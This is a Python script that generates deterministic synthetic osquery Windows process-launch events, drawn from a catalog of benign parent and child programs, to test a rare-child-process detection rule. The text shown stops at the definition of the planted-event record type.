#!/usr/bin/env python3
"""Deterministic synthetic osquery process events for the rare-child-process use case.

Writes Elasticsearch hits (``{"_id", "_index", "_source"}``, one JSON object per line) shaped like
the output of the osquery query behind ``meta.command.name:"get_all_processes_enriched"``::

    SELECT p.*, h.*, u.username, u.type as usertype, pp.name as parentname, pp.cmdline as parentcmdline
    FROM processes p LEFT JOIN users u ON p.uid = u.uid LEFT JOIN processes pp ON p.parent = pp.pid
    LEFT JOIN hash as h ON p.path = h.path;

Background traffic follows a fixed catalog of Windows workstation parent -> child launches with
long-tailed frequencies (svchost.exe, services.exe, explorer.exe, chrome.exe and Office launch most
processes; many parents launch a handful). On top of it, the events in ``PLANTED`` (the children the
seed use case ``terms_rare_childname`` must report) and ``WHITELISTED`` (rare children of svchost.exe
and services.exe that the seed whitelist regexes suppress) are inserted on named hosts.

The seed rule (within_aggregator, pct_of_avg_value, sensitivity 1, trigger low): per parent name,
``counts`` = events per distinct child name; a child is flagged iff its count < mean(counts) * 0.01.
``--check FILE`` recomputes that rule over a file and fails unless the flagged pairs are exactly
``PLANTED`` + ``WHITELISTED``. The catalog is sized so that this holds from the default size
(8 hosts x 3 weekdays x 220 events) upwards: every planted parent averages more than 130 events per
distinct child at that size (frontier > 1.3, so a count of 1 is flagged), and every benign child
carries at least a tenth of its parent's average child weight (about 10x the frontier), so none is
flagged at any size. Smaller or weekend-only periods give planted parents too few events: --check
then reports the planted pairs as missing.

Everything is a pure function of the arguments: one ``random.Random`` per host, derived from the
seed; no global random state, no wall clock. Generation streams (one hour of one host is buffered).

    python scripts/generate_events.py --seed 7 --hosts 8 --days 3 --out examples/sample-events.ndjson
    python scripts/generate_events.py --hosts 50 --days 7 --total-events 632788 --out big.ndjson
    python scripts/generate_events.py --scale 4 --out big4x.ndjson   # 100 hosts x 14 days, 2531152 events
    python scripts/generate_events.py --check examples/sample-events.ndjson
"""

from __future__ import annotations

import argparse
import bisect
import hashlib
import heapq
import itertools
import json
import random
import re
import statistics
import sys
from collections import Counter
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TextIO

INDEX_NAME = "osquery-processes"
QUERY_NAME = "get_all_processes_enriched"

DEFAULT_SEED = 7
DEFAULT_HOSTS = 8
DEFAULT_DAYS = 3
DEFAULT_EVENTS_PER_HOST_DAY = 220
DEFAULT_START = datetime(2024, 3, 4, tzinfo=UTC)  # a Monday

# The seed use case (examples/rare_child.ini).
TRIGGER_SENSITIVITY = 1
SUMMARY_TEMPLATE = "rare child process {child} for {parent}"
WHITELIST_REGEXPS = {
    "rare_child_svchost": r"^.*rare child process .* for svchost\.exe.*$",
    "rare_child_services": r"^.*rare child process .* for services\.exe.*$",
}

# The reference environment (50 hosts x 7 days) and its multiples for benchmarks: ``scale(4)``
# doubles both the hosts and the days (4x the events), ``scale(16)`` doubles them again. The planted
# events stay the same (one each): a planted parent's frontier grows with the data, so a count of 1
# stays below it.
REFERENCE_HOSTS = 50
REFERENCE_DAYS = 7
REFERENCE_TOTAL_EVENTS = 632_788


@dataclass(frozen=True)
class Scale:
    """A generated data set's size: ``generate(hosts=..., days=..., total_events=...)``."""

    multiplier: int
    hosts: int
    days: int
    total_events: int

    @property
    def name(self) -> str:
        return f"{self.multiplier}x"


def scale(multiplier: int) -> Scale:
    """The reference scale times ``multiplier`` (a power of 4: 1, 4, 16, 64 ...).

    Hosts and days each grow by the square root of the multiplier, the total by the multiplier.
    """
    side = 1
    while side * side < multiplier:
        side *= 2
    if multiplier < 1 or side * side != multiplier:
        raise ValueError(f"the scale multiplier must be a power of 4 (1, 4, 16 ...), not {multiplier}")
    hosts, days = REFERENCE_HOSTS * side, REFERENCE_DAYS * side
    return Scale(multiplier, hosts, days, REFERENCE_TOTAL_EVENTS * multiplier)


HOUR_MS = 3_600_000
DAY_MS = 24 * HOUR_MS
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)

# User-driven launches (browsers, Office, logons) follow office hours (UTC, a CET office); system
# launches are spread over the whole day. On Saturdays and Sundays few users work.
_OFFICE_HOURS_UTC = (
    0.2, 0.1, 0.1, 0.1, 0.1, 0.2, 0.6, 2.5, 6.0, 8.0, 8.0, 7.0,
    5.0, 7.0, 8.0, 7.5, 5.5, 3.0, 1.5, 1.0, 0.8, 0.6, 0.4, 0.3,
)  # fmt: skip
WEEKEND_USER_ACTIVITY = 0.15
HOST_ACTIVITY_RANGE = (0.8, 1.2)

# --------------------------------------------------------------------------------------------------
# Accounts (osquery `users` on Windows: uid = RID, type "special" for well-known SIDs, "roaming" for
# domain users with a profile).


@dataclass(frozen=True)
class Account:
    username: str
    usertype: str
    uid: int
    gid: int
    elevated: int


SYSTEM = Account("SYSTEM", "special", 18, 18, 1)
LOCAL_SERVICE = Account("LOCAL SERVICE", "special", 19, 19, 0)
NETWORK_SERVICE = Account("NETWORK SERVICE", "special", 20, 20, 0)
_SERVICE_ACCOUNTS = {"system": SYSTEM, "local_service": LOCAL_SERVICE, "network_service": NETWORK_SERVICE}

_USERNAMES = (
    "a.peeters", "l.janssens", "m.maes", "s.jacobs", "t.mertens", "e.claes",
    "j.willems", "n.goossens", "k.wouters", "h.dubois", "c.lambert", "r.dupont",
)  # fmt: skip


def host_name(host_number: int) -> str:
    """``WS-001`` for host 1."""
    return f"WS-{host_number:03d}"


def host_account(host_number: int) -> Account:
    """The (domain) user who works on workstation ``host_number`` (1-based)."""
    base = _USERNAMES[(host_number - 1) % len(_USERNAMES)]
    cycle = (host_number - 1) // len(_USERNAMES)
    username = base if cycle == 0 else f"{base}{cycle + 1}"
    return Account(username, "roaming", 1100 + host_number, 513, 0)


# --------------------------------------------------------------------------------------------------
# Background catalog. Command-line templates may use @USER@ (the host's user), @N@ (a number),
# @HEX@ (16 hex digits), @GUID@ and @DOC@ (a document name); they are filled per event (for children)
# or once per host, day and instance (for parents).


@dataclass(frozen=True)
class Child:
    name: str
    weight: float
    path: str
    cmdlines: tuple[str, ...]
    account: str = "user"  # "user" (the host's user) or a key of _SERVICE_ACCOUNTS
    parent_cmdline: str | None = None  # the launching instance, when not the parent's default


@dataclass(frozen=True)
class Parent:
    name: str
    share: float  # relative share of all launches on a weekday
    user_driven: bool
    cmdline: str
    children: tuple[Child, ...]
    instances: int = 1  # distinct running instances per host and day (pids / command lines)


_SYS32 = "C:\\Windows\\System32\\"
_NET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_CHROME_DIR = "C:\\Program Files\\Google\\Chrome\\Application\\122.0.6261.112\\"
_EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
_EDGE_DIR = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\122.0.2365.66\\"
_EDGE_UPDATE = r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe"
_WEBVIEW = r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\122.0.2365.66\msedgewebview2.exe"
_ACRO = "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\"
_ADOBE_GC = "C:\\Program Files (x86)\\Common Files\\Adobe\\AdobeGCClient\\"
_GOOGLE_UPDATE = "C:\\Program Files (x86)\\Google\\Update\\"
_DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\"
_SENSE = "C:\\Program Files\\Windows Defender Advanced Threat Protection\\"
_C2R = "C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\"
_LOCAL = "C:\\Users\\@USER@\\AppData\\Local\\"
_ROAMING = "C:\\Users\\@USER@\\AppData\\Roaming\\"
_OUTLOOK_CACHE = _LOCAL + "Microsoft\\Windows\\INetCache\\Content.Outlook\\K3Q8ZP2M\\"
_DOCS = "C:\\Users\\@USER@\\Documents\\"
_AI = r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\OFFICE16\ai.exe"
_AI_CMD = f'"{_AI}" "@GUID@" "@GUID@" "" "" "" "@N@"'
_TEAMS = _LOCAL + r"Microsoft\Teams\current\Teams.exe"
_VSCODE = _LOCAL + r"Programs\Microsoft VS Code\Code.exe"
_ONEDRIVE = _LOCAL + "Microsoft\\OneDrive\\"
_ZOOM = _ROAMING + "Zoom\\bin\\"
_POWERSHELL = _SYS32 + r"WindowsPowerShell\v1.0\powershell.exe"
_CHROMIUM_CHILD = "--mojo-platform-channel-handle=@N@ --field-trial-handle=1928,i,@N@,@N@,262144"

_SVC_SCHEDULE = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"
_SVC_DCOM = r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"
_SVC_WUAUSERV = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv"


def _child(name: str, weight: float, path: str, *cmdlines: str, **options: str) -> Child:
    return Child(name, weight, path, cmdlines or (path,), **options)


def _conhost(weight: float = 1.0, account: str = "user") -> Child:
    return _child(
        "conhost.exe", weight, _SYS32 + "conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", account=account,
    )  # fmt: skip


CATALOG: tuple[Parent, ...] = (
    # ---- system launches, all day long ------------------------------------------------------------
    Parent("svchost.exe", 0.26, False, _SVC_DCOM, (
        _child("taskhostw.exe", 0.22, _SYS32 + "taskhostw.exe",
               "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "taskhostw.exe",
               "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
               parent_cmdline=_SVC_SCHEDULE),
        _child("backgroundTaskHost.exe", 0.18, _SYS32 + "backgroundTaskHost.exe",
               f'"{_SYS32}backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
               f'"{_SYS32}backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmg2ts2cgzsf4fxd.mca'),
        _child("RuntimeBroker.exe", 0.16, _SYS32 + "RuntimeBroker.exe",
               r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
        _child("dllhost.exe", 0.14, _SYS32 + "dllhost.exe",
               r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
               r"C:\Windows\system32\DllHost.exe /Processid:{338B40F9-9D68-4B53-A793-6B9AA0C5F63B}",
               r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"),
        _child("WmiPrvSE.exe", 0.10, _SYS32 + r"wbem\WmiPrvSE.exe",
               r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
               r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding", account="network_service"),
        _child("MicrosoftEdgeUpdate.exe", 0.08, _EDGE_UPDATE,
               f'"{_EDGE_UPDATE}" /ua /installsource scheduler',
               account="system", parent_cmdline=_SVC_SCHEDULE),
        _child("MpCmdRun.exe", 0.07, _DEFENDER + "MpCmdRun.exe",
               f'"{_DEFENDER}MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
               f'"{_DEFENDER}MpCmdRun.exe" -IdleTask -TaskName WdCleanup',
               f'"{_DEFENDER}MpCmdRun.exe" -IdleTask -TaskName WdVerification',
               account="system", parent_cmdline=_SVC_SCHEDULE),
        _child("SIHClient.exe", 0.05, _SYS32 + "SIHClient.exe", f"{_SYS32}sihclient.exe  /cv @HEX@.0.2",
               account="system", parent_cmdline=_SVC_WUAUSERV),
    )),
    Parent("services.exe", 0.11, False, r"C:\Windows\system32\services.exe", (
        _child("svchost.exe", 0.80, _SYS32 + "svchost.exe",
               r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
               r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv",
               r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts",
               r"C:\Windows\system32\svchost.exe -k wsappx -p -s ClipSVC",
               r"C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc",
               r"C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain",
               account="system"),
        _child("sppsvc.exe", 0.12, _SYS32 + "sppsvc.exe", r"C:\Windows\system32\sppsvc.exe",
               account="network_service"),
        _child("SgrmBroker.exe", 0.08, _SYS32 + "SgrmBroker.exe", r"C:\Windows\system32\SgrmBroker.exe",
               account="system"),
    )),
    Parent("SearchIndexer.exe", 0.012, False, r"C:\Windows\system32\SearchIndexer.exe /Embedding", (
        _child("SearchProtocolHost.exe", 0.8, _SYS32 + "SearchProtocolHost.exe",
               r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe@N@_ '
               r'Global\UsGthrCtrlFltPipeMssGthrPipe@N@ 1 -2147483646 "Software\Microsoft\Windows Search"',
               account="system"),
        _child("SearchFilterHost.exe", 0.2, _SYS32 + "SearchFilterHost.exe",
               r'"C:\Windows\system32\SearchFilterHost.exe" 0 816 820 828 8192 824 800', account="system"),
    )),
    Parent("MsMpEng.exe", 0.010, False, f'"{_DEFENDER}MsMpEng.exe"', (
        _child("MpCmdRun.exe", 0.9, _DEFENDER + "MpCmdRun.exe",
               f'"{_DEFENDER}MpCmdRun.exe" SpyNetServiceDss -RestrictPrivileges -AccessKey @GUID@ -Reinvoke',
               f'"{_DEFENDER}MpCmdRun.exe" GetDeviceTicket -AccessKey @GUID@', account="network_service"),
        _child("MpSigStub.exe", 0.1, _SYS32 + "MpSigStub.exe",
               r"C:\Windows\system32\MpSigStub.exe /stub 1.1.24010.2 /payload 1.405.@N@.0 /program "
               r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta.exe /q", account="system"),
    )),
    Parent("MsSense.exe", 0.006, False, f'"{_SENSE}MsSense.exe"', (
        _child("SenseCncProxy.exe", 0.75, _SENSE + "SenseCncProxy.exe", f'"{_SENSE}SenseCncProxy.exe" @N@',
               account="system"),
        _child("SenseIR.exe", 0.25, _SENSE + "SenseIR.exe",
               f'"{_SENSE}SenseIR.exe" "OfflineSenseIR" "@N@" "eyJ**********"', account="system"),
    )),
    Parent("SenseIR.exe", 0.002, False, f'"{_SENSE}SenseIR.exe" "OfflineSenseIR"', (
        _child("powershell.exe", 1.0, _POWERSHELL,
               "powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "
               '"& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;'
               r"$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender "
               r"Advanced Threat Protection\Downloads\PSScript_{@GUID@}.ps1', "
               '[System.IO.FileMode]::Open)}"',
               account="system"),
    )),
    Parent("OfficeClickToRun.exe", 0.003, False, f'"{_C2R}OfficeClickToRun.exe" /service', (
        _child("OfficeC2RClient.exe", 1.0, _C2R + "OfficeC2RClient.exe",
               f'"{_C2R}OfficeC2RClient.exe" /frequentupdate SCHEDULEDTASK displaylevel=False',
               account="system"),
    )),
    Parent("ngentask.exe", 0.002, False, f'"{_NET}NGenTask.exe" /RuntimeWide /StopEvent:@N@', (
        _child("ngen.exe", 0.6, _NET + "ngen.exe",
               f'"{_NET}ngen.exe" install "Microsoft.Office.Interop.Outlook, Version=15.0.0.0" '
               "/NoDependencies /noroot /version:v4.0.30319", account="system"),
        _conhost(0.4, "system"),
    )),
    Parent("CompatTelRunner.exe", 0.002, False, r"C:\Windows\system32\compattelrunner.exe -maintenance", (
        _child("CompatTelRunner.exe", 0.7, _SYS32 + "CompatTelRunner.exe",
               f"{_SYS32}CompatTelRunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:@HEX@.1",
               account="system"),
        _conhost(0.3, "system"),
    )),
    Parent("MpCmdRun.exe", 0.003, False, f'"{_DEFENDER}MpCmdRun.exe" -IdleTask -TaskName WdCleanup', (
        _conhost(1.0, "system"),
    )),
    Parent("GoogleUpdate.exe", 0.002, False, f'"{_GOOGLE_UPDATE}GoogleUpdate.exe" /ua /installsource core', (
        _child("GoogleUpdate.exe", 0.6, _GOOGLE_UPDATE + "GoogleUpdate.exe",
               f'"{_GOOGLE_UPDATE}GoogleUpdate.exe" /cr', account="system"),
        _child("GoogleCrashHandler.exe", 0.2, _GOOGLE_UPDATE + r"1.3.36.372\GoogleCrashHandler.exe",
               f'"{_GOOGLE_UPDATE}1.3.36.372\\GoogleCrashHandler.exe"', account="system"),
        _child("GoogleCrashHandler64.exe", 0.2, _GOOGLE_UPDATE + r"1.3.36.372\GoogleCrashHandler64.exe",
               f'"{_GOOGLE_UPDATE}1.3.36.372\\GoogleCrashHandler64.exe"', account="system"),
    )),
    Parent("csc.exe", 0.003, False, f'"{_NET}csc.exe" /noconfig /fullpaths @"{_LOCAL}Temp\\@HEX@.cmdline"', (
        _child("cvtres.exe", 1.0, _NET + "cvtres.exe",
               f'{_NET}cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:{_LOCAL}Temp\\RES@HEX@.tmp"'),
    )),
    Parent("spoolsv.exe", 0.001, False, r"C:\Windows\System32\spoolsv.exe", (
        _child("PrintIsolationHost.exe", 1.0, _SYS32 + "PrintIsolationHost.exe",
               r"C:\Windows\system32\PrintIsolationHost.exe -Embedding", account="system"),
    )),
    Parent("smss.exe", 0.0008, False, r"\SystemRoot\System32\smss.exe", (
        _child("smss.exe", 0.5, _SYS32 + "smss.exe", r"\SystemRoot\System32\smss.exe 000000c8 00000084",
               account="system"),
        _child("csrss.exe", 0.25, _SYS32 + "csrss.exe",
               r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 "
               "Windows=On SubSystemType=Windows ServerDll=basesrv,1 "
               "ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off "
               "MaxRequestThreads=16", account="system"),
        _child("winlogon.exe", 0.25, _SYS32 + "winlogon.exe", "winlogon.exe", account="system"),
    )),
    Parent("sppsvc.exe", 0.001, False, r"C:\Windows\system32\sppsvc.exe", (
        _child("SppExtComObj.Exe", 1.0, _SYS32 + "SppExtComObj.Exe",
               r"C:\Windows\system32\SppExtComObj.Exe -Embedding", account="network_service"),
    )),
    Parent("AGMService.exe", 0.003, False, f'"{_ADOBE_GC}AGMService.exe"', (
        _child("AGMService.exe", 0.5, _ADOBE_GC + "AGMService.exe",
               f'"{_ADOBE_GC}AGMService.exe" \\\\.\\pipe\\gc_pipe_@HEX@ 3', account="system"),
        _conhost(0.5, "system"),
    )),
    # ---- user launches, office hours ----------------------------------------------------------------
    Parent("explorer.exe", 0.155, True, r"C:\Windows\Explorer.EXE", (
        _child("chrome.exe", 0.34, _CHROME, f'"{_CHROME}"', f'"{_CHROME}" --profile-directory=Default'),
        _child("OUTLOOK.EXE", 0.20, _OFFICE + "OUTLOOK.EXE", f'"{_OFFICE}OUTLOOK.EXE"'),
        _child("WINWORD.EXE", 0.18, _OFFICE + "WINWORD.EXE",
               f'"{_OFFICE}WINWORD.EXE" /n "C:\\Users\\@USER@\\Documents\\@DOC@.docx" /o ""'),
        _child("EXCEL.EXE", 0.16, _OFFICE + "EXCEL.EXE",
               f'"{_OFFICE}EXCEL.EXE" "C:\\Users\\@USER@\\Documents\\@DOC@.xlsx"'),
        _child("msedge.exe", 0.12, _EDGE, f'"{_EDGE}" --profile-directory=Default'),
    )),
    Parent("chrome.exe", 0.13, True, f'"{_CHROME}"', (
        _child("chrome.exe", 0.95, _CHROME,
               f'"{_CHROME}" --type=renderer --lang=en-US --renderer-client-id=@N@ '
               f"{_CHROMIUM_CHILD} /prefetch:1",
               f'"{_CHROME}" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA'
               f" {_CHROMIUM_CHILD} /prefetch:2",
               f'"{_CHROME}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US '
               f"--service-sandbox-type=none {_CHROMIUM_CHILD} /prefetch:3"),
        _child("notification_helper.exe", 0.03, _CHROME_DIR + "notification_helper.exe",
               f'"{_CHROME_DIR}notification_helper.exe" -Embedding'),
        _child("software_reporter_tool.exe", 0.02,
               _LOCAL + r"Google\Chrome\User Data\SwReporter\121.305.200\software_reporter_tool.exe",
               f'"{_LOCAL}Google\\Chrome\\User Data\\SwReporter\\121.305.200\\software_reporter_tool.exe" '
               "--engine=2 --scan-locations=1,2,3,4,5,6,7,8,10 --disabled-locations=9"),
    )),
    Parent("OUTLOOK.EXE", 0.105, True, f'"{_OFFICE}OUTLOOK.EXE"', (
        _child("ai.exe", 0.70, _AI, _AI_CMD),
        _child("msedge.exe", 0.15, _EDGE,
               f'"{_EDGE}" --single-argument https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2F'
               "intranet.example.com%2Fnews%2F@N@&data=05%7C02%7C%7C@HEX@"),
        _child("Acrobat.exe", 0.15, _ACRO + "Acrobat.exe",
               f'"{_ACRO}Acrobat.exe" "{_OUTLOOK_CACHE}@DOC@.pdf"'),
    )),
    Parent("WINWORD.EXE", 0.08, True, f'"{_OFFICE}WINWORD.EXE" /n "{_DOCS}@DOC@.docx" /o ""', (
        _child("ai.exe", 0.85, _AI, _AI_CMD),
        _child("splwow64.exe", 0.15, r"C:\Windows\splwow64.exe", r"C:\Windows\splwow64.exe 12288"),
    ), instances=3),
    Parent("msedge.exe", 0.03, True, f'"{_EDGE}" --profile-directory=Default', (
        _child("msedge.exe", 0.85, _EDGE,
               f'"{_EDGE}" --type=renderer --lang=en-US --js-flags=--ms-user-locale= '
               "--renderer-client-id=@N@ "
               f"{_CHROMIUM_CHILD} /prefetch:1",
               f'"{_EDGE}" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US '
               f"--service-sandbox-type=service {_CHROMIUM_CHILD} /prefetch:8"),
        _child("identity_helper.exe", 0.15, _EDGE_DIR + "identity_helper.exe",
               f'"{_EDGE_DIR}identity_helper.exe" --type=utility '
               "--utility-sub-type=winrt_app_id.mojom.WinrtAppIdService "
               f"--lang=en-US --service-sandbox-type=none {_CHROMIUM_CHILD} /prefetch:8"),
    )),
    Parent("Teams.exe", 0.02, True, f'"{_TEAMS}" --system-initiated', (
        _child("Teams.exe", 1.0, _TEAMS,
               f'"{_TEAMS}" --type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US '
               "--enable-features=WebComponentsV0Enabled --renderer-client-id=@N@ "
               "--mojo-platform-channel-handle=@N@",
               f'"{_TEAMS}" --type=gpu-process --field-trial-handle=1776,@N@,@N@,131072 '
               "--enable-features=WebComponentsV0Enabled --mojo-platform-channel-handle=@N@"),
    )),
    Parent("cmd.exe", 0.012, True, r'"C:\Windows\system32\cmd.exe"', (
        _conhost(0.6),
        _child("ipconfig.exe", 0.15, _SYS32 + "ipconfig.exe", "ipconfig  /all", "ipconfig /flushdns"),
        _child("PING.EXE", 0.10, _SYS32 + "PING.EXE", "ping  fileserver01.corp.example.com",
               "ping -n 4 8.8.8.8"),
        _child("net.exe", 0.10, _SYS32 + "net.exe", "net  use", r"net use S: \\fileserver01\shared"),
        _child("whoami.exe", 0.05, _SYS32 + "whoami.exe", "whoami  /groups", "whoami"),
    )),
    Parent("powershell.exe", 0.010, True, f'"{_POWERSHELL}"', (
        _conhost(0.6),
        _child("csc.exe", 0.3, _NET + "csc.exe",
               f'"{_NET}csc.exe" /noconfig /fullpaths @"{_LOCAL}Temp\\@HEX@.cmdline"'),
        _child("HOSTNAME.EXE", 0.1, _SYS32 + "HOSTNAME.EXE", r'"C:\Windows\system32\HOSTNAME.EXE"'),
    )),
    Parent("EXCEL.EXE", 0.010, True, f'"{_OFFICE}EXCEL.EXE" "C:\\Users\\@USER@\\Documents\\@DOC@.xlsx"', (
        _child("ai.exe", 0.8, _AI, _AI_CMD),
        _child("splwow64.exe", 0.2, r"C:\Windows\splwow64.exe", r"C:\Windows\splwow64.exe 8192"),
    ), instances=2),
    Parent("POWERPNT.EXE", 0.003, True, f'"{_OFFICE}POWERPNT.EXE" "{_DOCS}@DOC@.pptx"', (
        _child("ai.exe", 1.0, _AI, _AI_CMD),
    )),
    Parent("Acrobat.exe", 0.008, True, f'"{_ACRO}Acrobat.exe" "C:\\Users\\@USER@\\Downloads\\@DOC@.pdf"', (
        _child("AcroCEF.exe", 0.6, _ACRO + r"AcroCEF\AcroCEF.exe",
               f'"{_ACRO}AcroCEF\\AcroCEF.exe" --backgroundcolor=16514043'),
        _child("LogTransport2.exe", 0.15, _ACRO + "LogTransport2.exe",
               f'"{_ACRO}LogTransport2.exe" @HEX@@AdobeID 1 0 NOVALUE NOVALUE'),
        _child("AdobeARM.exe", 0.15, r"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe",
               r'"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe" '
               "/PRODUCT:Acrobat /VERSION:23.0 /MODE:3"),
        _child("AdobeCollabSync.exe", 0.1, _ACRO + "AdobeCollabSync.exe", f'"{_ACRO}AdobeCollabSync.exe"'),
    )),
    Parent("AcroCEF.exe", 0.006, True, f'"{_ACRO}AcroCEF\\AcroCEF.exe" --backgroundcolor=16514043', (
        _child("AcroCEF.exe", 1.0, _ACRO + r"AcroCEF\AcroCEF.exe",
               f'"{_ACRO}AcroCEF\\AcroCEF.exe" --type=renderer --lang=en-US --renderer-client-id=@N@ '
               "--mojo-platform-channel-handle=@N@ /prefetch:1"),
    )),
    Parent("AdobeCollabSync.exe", 0.002, True, f'"{_ACRO}AdobeCollabSync.exe"', (
        _child("FullTrustNotifier.exe", 0.7, _ACRO + "FullTrustNotifier.exe",
               f'"{_ACRO}FullTrustNotifier.exe" GetChannelUri'),
        _child("AdobeCollabSync.exe", 0.3, _ACRO + "AdobeCollabSync.exe",
               f'"{_ACRO}AdobeCollabSync.exe"  --type=collab-renderer --proc=@N@'),
    )),
    Parent("msedgewebview2.exe", 0.008, True,
           f'"{_WEBVIEW}" --embedded-browser-webview=1 --webview-exe-name=OUTLOOK.EXE', (
        _child("msedgewebview2.exe", 1.0, _WEBVIEW,
               f'"{_WEBVIEW}" --type=renderer --noerrdialogs --embedded-browser-webview=1 '
               "--webview-exe-name=OUTLOOK.EXE --renderer-client-id=@N@ "
               "--mojo-platform-channel-handle=@N@ /prefetch:1"),
    )),
    Parent("OneDrive.exe", 0.003, True, f'"{_ONEDRIVE}OneDrive.exe" /background', (
        _child("FileCoAuth.exe", 0.6, _ONEDRIVE + r"24.025.0204.0003\FileCoAuth.exe",
               f'"{_ONEDRIVE}24.025.0204.0003\\FileCoAuth.exe" -Embedding'),
        _child("OneDriveStandaloneUpdater.exe", 0.4, _ONEDRIVE + "OneDriveStandaloneUpdater.exe",
               f'"{_ONEDRIVE}OneDriveStandaloneUpdater.exe"'),
    )),
    Parent("Code.exe", 0.004, True, f'"{_VSCODE}"', (
        _child("Code.exe", 0.85, _VSCODE,
               f'"{_VSCODE}" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US '
               "--service-sandbox-type=none --mojo-platform-channel-handle=@N@ /prefetch:8"),
        _child("powershell.exe", 0.15, _POWERSHELL, f"{_POWERSHELL} -NoLogo"),
    )),
    Parent("winlogon.exe", 0.002, True, "winlogon.exe", (
        _child("LogonUI.exe", 0.5, _SYS32 + "LogonUI.exe",
               '"LogonUI.exe" /flags:0x2 /state0:0xa3b6c855 /state1:0x41c64e6d', account="system"),
        _child("userinit.exe", 0.25, _SYS32 + "userinit.exe", r"C:\Windows\system32\userinit.exe"),
        _child("fontdrvhost.exe", 0.25, _SYS32 + "fontdrvhost.exe", '"fontdrvhost.exe"'),
    )),
    Parent("userinit.exe", 0.0008, True, r"C:\Windows\system32\userinit.exe", (
        _child("explorer.exe", 1.0, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    )),
    Parent("Update.exe", 0.0008, True, f'"{_LOCAL}Microsoft\\Teams\\Update.exe" --processStart "Teams.exe"', (
        _child("Teams.exe", 1.0, _TEAMS, f'"{_TEAMS}" --system-initiated'),
    )),
    Parent("Zoom.exe", 0.0015, True, f'"{_ZOOM}Zoom.exe"', (
        _child("CptHost.exe", 0.5, _ZOOM + "CptHost.exe",
               f'"{_ZOOM}CptHost.exe" -action="create" -wndid=@N@'),
        _child("zWebview2Agent.exe", 0.5, _ZOOM + "zWebview2Agent.exe",
               f'"{_ZOOM}zWebview2Agent.exe" --pid=@N@'),
    )),
    Parent("7zFM.exe", 0.0006, True, r'"C:\Program Files\7-Zip\7zFM.exe"', (
        _child("7zG.exe", 1.0, r"C:\Program Files\7-Zip\7zG.exe",
               r'"C:\Program Files\7-Zip\7zG.exe" x -o"C:\Users\@USER@\Downloads\@DOC@\" '
               "-ad -an -ai#7zMap@N@"),
    )),
)  # fmt: skip

_DOCUMENTS = (
    "Q1 budget review", "Offerte 2024-031", "meeting notes", "contract renewal draft", "travel expenses",
    "project plan v3", "onboarding checklist", "supplier list", "sales pipeline", "board presentation",
    "invoice 2024-0117", "team roster", "risk register", "release notes", "customer survey",
)  # fmt: skip


# --------------------------------------------------------------------------------------------------
# Planted events: the children the seed use case must report (PLANTED) and the ones the seed
# whitelist suppresses (WHITELISTED). One entry = one event; paths and command lines may use @USER@.


@dataclass(frozen=True)
class PlantedEvent:
    parent: str
    child: str
    host: str
    day: int  # day offset from the start of the generated period (taken modulo the number of days)
    time: str  # HH:MM:SS.mmm after the start of that day
    path: str
    cmdline: str
    parent_cmdline: str
    account: str  # "user" or a key of _SERVICE_ACCOUNTS
    reason: str
    whitelist_entry: str | None = None  # the [whitelist_regexps] entry that suppresses it


